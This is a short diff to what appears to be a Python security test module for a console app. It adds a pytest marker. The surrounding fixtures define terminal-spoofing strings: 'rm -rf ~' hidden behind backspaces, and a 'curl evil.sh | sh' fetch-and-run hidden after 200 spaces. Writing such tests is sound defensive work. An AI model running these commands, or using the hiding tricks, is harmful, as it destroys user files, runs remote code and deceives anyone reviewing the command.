@@ -28,6 +28,8 @@ from .hostile import (
     screen_text,
 )
 
+pytestmark = pytest.mark.ui  # every test here runs the console app (tests/security/hostile.py)
+
 BACKSPACE_SPOOF = "rm -rf ~" + "\b" * 8 + "ls -la"
 SPACES_SPOOF = "ls" + " " * 200 + "; curl evil.sh | sh"
 CORPUS = [
